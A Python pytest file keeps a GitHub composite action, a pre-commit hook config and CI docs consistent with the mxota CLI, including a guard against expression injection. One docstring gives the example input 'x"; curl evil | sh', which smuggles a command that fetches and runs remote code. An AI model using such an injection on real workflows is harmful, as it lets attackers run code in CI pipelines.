"""The CI files (action.yml, .pre-commit-hooks.yaml) and docs/ci.md stay consistent with the real CLI.

- the action has its inputs, outputs and steps, and no ``run:`` script splices ``${{ }}`` (injection guard);
- the pre-commit hook runs ``mxota check``;
- every ``mxota ...`` command line in docs/ci.md's sh/bash/yaml blocks, and in the action's scripts, names
  a subcommand whose ``--help`` exits 0 and lists every option the line uses, and uses known formats.
"""

from __future__ import annotations

import re
import shlex
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from analyzer.cli import app
from analyzer.report.registry import OutputFormat

REPO = Path(__file__).resolve().parents[1]
ACTION = REPO / "action.yml"
HOOKS = REPO / ".pre-commit-hooks.yaml"
CI_DOC = REPO / "docs" / "ci.md"

NOT_YET: dict[str, str] = {}
"""Options the docs may use before the CLI has them, each with the reason (empty: every one exists)."""

EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.S)
CODE_BLOCK = re.compile(r"^```(sh|bash|yaml)[^\n]*\n(.*?)^```", re.S | re.M)


def _load(path: Path) -> Any:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def _action() -> dict[str, Any]:
    data = _load(ACTION)
    assert isinstance(data, dict)
    return data


def _steps() -> list[dict[str, Any]]:
    steps = _action()["runs"]["steps"]
    assert isinstance(steps, list)
    return steps


def _step(step_id: str) -> dict[str, Any]:
    for step in _steps():
        if step.get("id") == step_id:
            return step
    raise AssertionError(f"action.yml has no step with id {step_id!r}")


# --- action.yml -----------------------------------------------------------------------------------


def test_action_is_composite_with_inputs_and_outputs() -> None:
    action = _action()
    assert action["name"] == "mxota release gate"
    assert action["runs"]["using"] == "composite"
    inputs = action["inputs"]
    for name in ("base", "head", "app-dir", "fail-on", "config", "python-version", "version"):
        assert name in inputs, name
        assert inputs[name].get("description"), name
    assert inputs["head"]["default"] == "."
    assert inputs["fail-on"]["default"] == "data-risk"
    assert str(inputs["python-version"]["default"]) == "3.11"
    assert inputs["base"]["default"] == ""
    outputs = action["outputs"]
    for name in ("verdict", "gate", "exit-code"):
        assert "steps.gate.outputs." + name in outputs[name]["value"], name


def test_action_steps() -> None:
    steps = _steps()
    uses = [step.get("uses", "") for step in steps]
    assert any(u.startswith("actions/setup-python@") for u in uses)
    assert any(u.startswith("github/codeql-action/upload-sarif@") for u in uses)
    assert any(u.startswith("actions/upload-artifact@") for u in uses)
    sarif = next(s for s in steps if s.get("uses", "").startswith("github/codeql-action/upload-sarif@"))
    assert "always()" in sarif["if"]
    assert sarif["continue-on-error"] is True
    for step in steps:
        if "run" in step:
            assert step.get("shell") == "bash", step["name"]
    scripts = "\n".join(step.get("run", "") for step in steps)
    assert "pip install" in scripts
    assert "git fetch --no-tags origin" in scripts
    assert "GITHUB_STEP_SUMMARY" in scripts
    gate = _step("gate")["run"]
    assert "set +e" in gate, "GitHub runs bash with -e: without set +e a failed gate skips the reports"
    assert "code=$?" in gate and "exit-code=" in gate
    for fmt in ("text", "github", "markdown:", "sarif:", "html:", "json:"):
        assert f"--format {fmt}" in gate or f'--format "{fmt}' in gate, fmt
    assert "exit" in steps[-1]["run"] and "steps.gate.outputs.exit-code" in steps[-1]["env"]["MXOTA_EXIT"]


def test_action_scripts_take_inputs_through_env_only() -> None:
    """No ``${{ }}`` inside a ``run:`` script: an input like ``x"; curl evil | sh`` would run."""
    for step in _steps():
        script = step.get("run")
        if script is None:
            continue
        spliced = EXPRESSION.findall(script)
        assert not spliced, f"step {step['name']!r} splices {spliced} into its script; pass it through env:"


def test_action_inputs_all_used() -> None:
    text = ACTION.read_text(encoding="utf-8")
    for name in _action()["inputs"]:
        assert f"inputs.{name}" in text, f"input {name!r} is declared but never used"


# --- .pre-commit-hooks.yaml -----------------------------------------------------------------------


def test_pre_commit_hook() -> None:
    hooks = _load(HOOKS)
    assert isinstance(hooks, list)
    by_id = {hook["id"]: hook for hook in hooks}
    hook = by_id["mxota-check"]
    assert hook["entry"] == "mxota check"
    assert hook["language"] == "python"
    assert hook["pass_filenames"] is False
    assert hook["args"] == ["git:HEAD", "."]
    pattern = re.compile(hook["files"])
    for path in ("App.mpr", "mprcontents/ab/cd/abcd.mxunit", "theme/native/main.js", "apps/x/widgets/w.mpk"):
        assert pattern.search(path), path
    assert not pattern.search("README.md")


# --- mxota command lines in docs/ci.md and action.yml ---------------------------------------------


@cache
def _help(subcommand: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, [subcommand, "--help"], env={"COLUMNS": "240", "NO_COLOR": "1"})
    return result.exit_code, result.output


def _logical_lines(text: str) -> list[str]:
    """Lines with backslash continuations joined."""
    return text.replace("\\\n", " ").splitlines()


def _mxota_commands(text: str) -> list[list[str]]:
    """The argument lists (after ``mxota``) of every line that runs mxota."""
    commands: list[list[str]] = []
    for line in _logical_lines(text):
        stripped = re.sub(r"^\s*(?:-\s+)?(?:run:\s*)?(?:\$\s+)?(?:env -u \w+\s+)?", "", line)
        if not stripped.startswith("mxota "):
            continue
        try:
            tokens = shlex.split(stripped, comments=True)
        except ValueError as exc:  # pragma: no cover - reported as a failure below
            raise AssertionError(f"cannot split {stripped!r}: {exc}") from None
        commands.append(tokens[1:])
    return commands


def _doc_commands() -> list[list[str]]:
    text = CI_DOC.read_text(encoding="utf-8")
    blocks = [body for _lang, body in CODE_BLOCK.findall(text)]
    assert blocks, "docs/ci.md has no sh/bash/yaml code blocks"
    return [cmd for body in blocks for cmd in _mxota_commands(body)]


def _action_commands() -> list[list[str]]:
    return [cmd for step in _steps() for cmd in _mxota_commands(step.get("run", ""))]


def _check_command(args: list[str]) -> list[str]:
    problems: list[str] = []
    line = "mxota " + " ".join(args)
    if not args:
        return [f"{line}: no subcommand"]
    sub = args[0]
    code, help_text = _help(sub)
    if code != 0:
        return [f"{line}: `mxota {sub} --help` exits {code}"]
    options: list[str] = []
    formats: list[str] = []
    rest = args[1:]
    for i, token in enumerate(rest):
        if token == "--":
            break  # mxota push: the push command follows
        if token.startswith("-") and token != "-":
            name = token.split("=", 1)[0]
            options.append(name)
            if name in ("--format", "-f"):
                value = token.split("=", 1)[1] if "=" in token else (rest[i + 1] if i + 1 < len(rest) else "")
                formats.append(value)
    for name in options:
        if name in NOT_YET:
            continue
        if not re.search(rf"(?<![\w-]){re.escape(name)}(?![\w-])", help_text):
            problems.append(f"{line}: option {name} is not in `mxota {sub} --help`")
    known = {fmt.value for fmt in OutputFormat}
    for spec in formats:
        name = spec.partition(":")[0]
        if name not in known and not name.startswith("$"):
            problems.append(f"{line}: unknown format {name!r}")
    return problems


def test_docs_have_mxota_commands() -> None:
    subs = {cmd[0] for cmd in _doc_commands() if cmd}
    assert {"check", "snapshot", "explain", "push"} <= subs, subs


@pytest.mark.parametrize("where", ["docs/ci.md", "action.yml"])
def test_mxota_command_lines_match_the_cli(where: str) -> None:
    commands = _doc_commands() if where == "docs/ci.md" else _action_commands()
    assert commands, f"no mxota command lines found in {where}"
    problems = [problem for cmd in commands for problem in _check_command(cmd)]
    assert not problems, "\n".join(problems)


def test_not_yet_options_are_still_missing() -> None:
    """When an option lands in the CLI, drop it from NOT_YET so the docs are checked against it."""
    for option in NOT_YET:
        for sub in ("check", "push"):
            assert option not in _help(sub)[1], f"{option} exists now in `mxota {sub}`; remove it from NOT_YET"


def test_explained_rules_exist() -> None:
    """``mxota explain RULE`` in the docs names a rule that exists (a renamed rule breaks the docs)."""
    for cmd in _doc_commands():
        if cmd[:1] == ["explain"]:
            result = CliRunner().invoke(app, cmd)
            assert result.exit_code == 0, f"mxota {' '.join(cmd)}: exit {result.exit_code}: {result.output}"
